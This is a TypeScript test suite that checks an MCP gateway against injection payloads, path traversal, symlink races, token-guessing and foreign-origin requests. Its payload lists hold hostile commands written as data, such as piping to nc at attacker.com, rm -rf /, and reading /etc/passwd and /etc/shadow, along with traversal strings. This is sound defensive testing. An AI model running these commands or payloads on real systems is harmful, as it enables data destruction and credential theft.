import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { GatehouseApp } from '../support/gatehouse-app.ts'
import { type RawBridge, said } from '../support/raw-bridge.ts'

/**
 * The payload classes of a usual security suite (spec sales-3, section 14), thrown at every place of a running app that takes a
 * name, an id, an address or words. Each is shown to have reached nobody: the server did not act, no right was made, and
 * the answer tells nothing of the inside.
 */
const payloads = {
  'SQL injection': [
    "'; DROP TABLE conversations; --",
    '1 OR 1=1',
    '1; DELETE FROM sessions',
    'UNION SELECT * FROM users',
    "' OR ''='",
  ],
  'NoSQL injection': ['{"$gt":""}', '{"$ne":null}', '{"$where":"function(){return true}"}', '{"$regex":".*"}'],
  'command injection': [
    'test; rm -rf /',
    'test && cat /etc/passwd',
    'test | nc attacker.com 1234',
    '`whoami`',
    '$(cat /etc/shadow)',
  ],
  'LDAP injection': ['*)(&', '*)(uid=*))(|(uid=*', 'admin)(&)'],
  'script injection': [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    'javascript:alert(1)',
    '<a href="javascript:alert(1)">x</a>',
  ],
  'log injection': ['name\n{"seq":1,"action":"forged"}', '\u001b[2Jcleared', '\u202eesrever', '=HYPERLINK("http://x")'],
}
const classes = Object.entries(payloads)
const traversals = [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\config\\sam',
  '....//....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252f..%252fetc%252fpasswd',
  'notes.md\0.png',
]

/** Exchanges, as fast as it can, a file for a link out of the folder, and a folder for a link to one outside. */
const swaps = `
const fs = require('node:fs')
const { join } = require('node:path')
const [, folder, outside] = process.argv
const [file, sub, kept] = ['swapped.md', 'sub', 'sub-kept'].map((name) => join(folder, name))
const put = (make) => { make(file + '.new'); fs.renameSync(file + '.new', file) }
const turn = () => {
  for (let round = 0; round < 20; round++) {
    put((place) => fs.writeFileSync(place, 'Buy milk.'))
    put((place) => fs.symlinkSync(join(outside, 'notes.md'), place))
    fs.renameSync(sub, kept)
    fs.symlinkSync(outside, sub)
    fs.unlinkSync(sub)
    fs.renameSync(kept, sub)
  }
  setImmediate(turn)
}
turn()
console.log('swapping')
`

let app: GatehouseApp
let editor: RawBridge
let token: string
/** The key with another letter at one place. */
const changedAt = (at: number) => token.slice(0, at) + (token[at] === 'A' ? 'B' : 'A') + token.slice(at + 1)
let folder: string

beforeAll(async () => {
  app = await GatehouseApp.start()
  await app.addRecorder('asked')
  await app.addRecorder('trusted', '--trust')
  folder = join(app.folder, 'allowed')
  mkdirSync(folder)
  writeFileSync(join(folder, 'notes.md'), 'Buy milk.')
  await app.ask('servers', 'set', 'filesystem', '--allow-path', folder)
  editor = await app.client('editor')
  token = String((await app.ask('clients', 'token', 'web')).token)
})
afterAll(() => app.end())

const post = (body: unknown, headers: Record<string, string> = {}, path = '/mcp') =>
  fetch(`${app.endpoint.httpUrl}${path}`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
      authorization: `Bearer ${token}`,
      ...headers,
    },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const initialize = {
  jsonrpc: '2.0',
  id: 1,
  method: 'initialize',
  params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'web', version: '1' } },
}
/** Neither where code lies nor how it failed. */
const inside = /\n\s+at |node_modules|\.ts:\d|SQLITE|"stack"|"trace"|better-sqlite3/i

/** The rights, the apps and the servers as they were. */
async function rights(): Promise<unknown> {
  const { grants } = await app.ask('permissions', 'list')
  const { clients } = await app.ask('clients', 'list')
  const { servers } = await app.ask('servers', 'list')
  return [
    grants,
    (clients as { name: string; state: string }[]).map(({ name, state }) => [name, state]),
    (servers as { name: string; sandbox: number }[]).map(({ name, sandbox }) => [name, sandbox]),
  ]
}

describe.each(classes)('%s', (kind, given) => {
  it('as a name, an address, a cursor or an id reaches no server and makes no right', async () => {
    const mallory = await app.client(`mallory-${classes.findIndex(([name]) => name === kind)}`)
    const before = await rights()
    const calls = app.reached('trusted').length
    for (const payload of given) {
      const answers = [
        await mallory.request('tools/call', { name: payload, arguments: {} }),
        await mallory.request('tools/call', { name: `trusted__${payload}`, arguments: {} }),
        await mallory.request('prompts/get', { name: payload }),
        await mallory.request('resources/read', { uri: payload }),
        await mallory.request('tools/list', { cursor: payload }),
        await mallory.call('gatehouse__await_approval', { id: payload }),
        await mallory.call('gatehouse__explain_refusal', { tool: payload }),
      ]
      for (const answer of answers) expect(JSON.stringify(answer)).not.toMatch(inside)
      const [call, own, prompt, resource] = answers
      for (const answer of [call, own, prompt, resource])
        expect(answer?.error ?? answer?.result?.isError, JSON.stringify(answer)).toBeTruthy()
    }
    expect(app.reached('trusted')).toHaveLength(calls)
    expect(await rights()).toEqual(before)
  })

  it('as a session, an API key or a path of the HTTP endpoint lets nobody in', async () => {
    for (const payload of given) {
      const header = encodeURIComponent(payload)
      const answers = [
        await post({ jsonrpc: '2.0', id: 2, method: 'tools/list' }, { 'mcp-session-id': header }),
        await post(initialize, { authorization: `Bearer ${header}` }),
        await post(initialize, {}, `/mcp/servers/${header}`),
      ]
      expect(answers.map(({ status }) => status)).toEqual([404, 401, 404])
      for (const answer of answers) {
        expect(answer.headers.get('content-type')).toContain('application/json')
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
        expect(await answer.text()).not.toMatch(inside)
      }
    }
  })

  it('in arguments is asked about as it stands, and without an answer the server does not act', async () => {
    const [payload = ''] = given
    const waiting = editor.call('asked__act', { what: payload })
    const id = await app.question()
    const shown = await app.ask('approvals', 'show', id)
    expect(shown).toMatchObject({ state: 'pending', subject: { tool: 'act', arguments: { what: payload } } })
    expect(app.reached('asked')).toEqual([])
    await app.ask('approvals', 'deny', id)
    expect((await waiting).result?.isError).toBe(true)
    expect(app.reached('asked')).toEqual([])
  })

  it('in what a person searches for finds nothing of others and changes nothing', async () => {
    for (const payload of given) {
      const found = await app.ask('audit', 'list', '--client', payload)
      expect(found.entries).toEqual([])
      const shown = await app.operator('sessions', 'show', '--', payload)
      expect(shown.code).not.toBe(0)
      expect(shown.err).not.toMatch(inside)
    }
    expect(await app.ask('audit', 'verify')).toMatchObject({ valid: true })
  })
})

describe('a path out of the allowed folders', () => {
  let mallory: RawBridge
  beforeAll(async () => {
    mallory = await app.client('mallory-paths')
  })

  it.each(traversals)('%j reads nothing', async (path) => {
    for (const spelled of [path, join(folder, path), `${folder}/${path}`, `file://${folder}/${path}`]) {
      const answer = await mallory.call('filesystem__read_text_file', { path: spelled })
      expect(JSON.stringify(answer)).not.toContain('root:')
      expect(answer.error ?? answer.result?.isError).toBeTruthy()
    }
  })

  it('that another program puts in the place of a file or a folder while it is used gives and changes nothing', async () => {
    const outside = join(app.folder, 'outside')
    for (const place of [outside, join(folder, 'sub')]) mkdirSync(place)
    writeFileSync(join(outside, 'notes.md'), 'a canary of the outside')
    writeFileSync(join(folder, 'sub', 'notes.md'), 'Buy milk.')
    await app.ask('permissions', 'allow', '--client', 'mallory-paths', '--tool', 'filesystem__write_file')
    const swapping = spawn(process.execPath, ['-e', swaps, folder, outside], { stdio: ['pipe', 'pipe', 'inherit'] })
    await once(swapping.stdout, 'data')
    const answers: string[] = []
    for (let round = 0; round < 40; round++)
      for (const path of [join(folder, 'swapped.md'), join(folder, 'sub', 'notes.md')])
        answers.push(
          said(await mallory.call('filesystem__read_text_file', { path })),
          said(await mallory.call('filesystem__write_file', { path, content: 'Buy milk.' })),
        )
    swapping.kill()
    await once(swapping, 'exit')
    expect(answers).toContain('Buy milk.') // some came when the file was there
    expect(answers.filter((answer) => answer.includes('canary'))).toEqual([])
    expect(readdirSync(outside).map((name) => readFileSync(join(outside, name), 'utf8'))).toEqual([
      'a canary of the outside',
    ])
  })

  it.each(traversals)('%j of the HTTP address serves nothing', async (path) => {
    for (const spelled of [`/${path}`, `/assets/${path}`, `/mcp/${path}`]) {
      const answer = await fetch(`${app.endpoint.httpUrl}${encodeURI(spelled).replaceAll('%25', '%')}`)
      expect(await answer.text()).not.toContain('root:')
    }
  })

  it('a file inside is read, so that the refusals above mean something', async () => {
    expect(said(await editor.call('filesystem__read_text_file', { path: join(folder, 'notes.md') }))).toBe('Buy milk.')
  })
})

describe('proofs of who is there', () => {
  const login = (passphrase: string) =>
    fetch(`${app.endpoint.httpUrl}/api/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ passphrase }),
    })

  it('are asked for: no key, a changed key and a key of another form are all 401, and tell nothing apart', async () => {
    const letters = [...token].map((_, at) => at).filter((at) => at % 4 === 0)
    const changed = letters.map(changedAt)
    const texts = new Set<string>()
    for (const key of ['', 'x', ...changed, `${token}A`, token.slice(0, -1)]) {
      const answer = await post(initialize, { authorization: `Bearer ${key}` })
      expect(answer.status, key).toBe(401)
      expect(answer.headers.get('www-authenticate')).toContain('Bearer')
      texts.add(await answer.text())
    }
    expect(texts.size).toBe(1)
    expect((await post(initialize)).status).toBe(200)
  })

  it('take the same time wherever they are wrong, and are slowed down with 429; who has a good key goes on', async () => {
    const times: number[] = []
    const statuses: number[] = []
    for (let round = 0; round < 110; round++) {
      const key = round % 2 ? changedAt(0) : changedAt(token.length - 1)
      const begun = performance.now()
      const answer = await post(initialize, { authorization: `Bearer ${key}` })
      await answer.text()
      times.push(performance.now() - begun)
      statuses.push(answer.status)
      if (answer.status === 429) expect(Number(answer.headers.get('retry-after'))).toBeGreaterThan(0)
    }
    // a busy machine delays some answers; the usual one it delays for both kinds of key
    const usual = (kind: number) => times.filter((_, round) => round % 2 === kind).sort((a, b) => a - b)[27] ?? 0
    expect(Math.abs(usual(0) - usual(1))).toBeLessThan(50)
    expect(new Set(statuses)).toEqual(new Set([401, 429]))
    expect((await post(initialize)).status).toBe(200)
  })

  it('cannot be guessed at: ten wrong passphrases at once are slowed down with 429', async () => {
    const statuses = await Promise.all(
      Array.from({ length: 10 }, async (_, index) => (await login(`guess ${index}`)).status),
    )
    expect(statuses).toContain(429)
    expect(statuses.filter((status) => status < 400)).toEqual([])
  })

  it('of a foreign page are refused: Origin and Host are looked at', async () => {
    expect((await post(initialize, { origin: 'https://malicious-site.com' })).status).toBe(403)
    const { hostname, port } = new URL(app.endpoint.httpUrl)
    const headers = { host: `rebound.example:${port}`, authorization: `Bearer ${token}` }
    const rebound = request({ hostname, port, path: '/mcp', method: 'POST', headers }).end(JSON.stringify(initialize))
    const [{ statusCode }] = await once(rebound, 'response')
    expect(statusCode).toBe(403)
  })
})
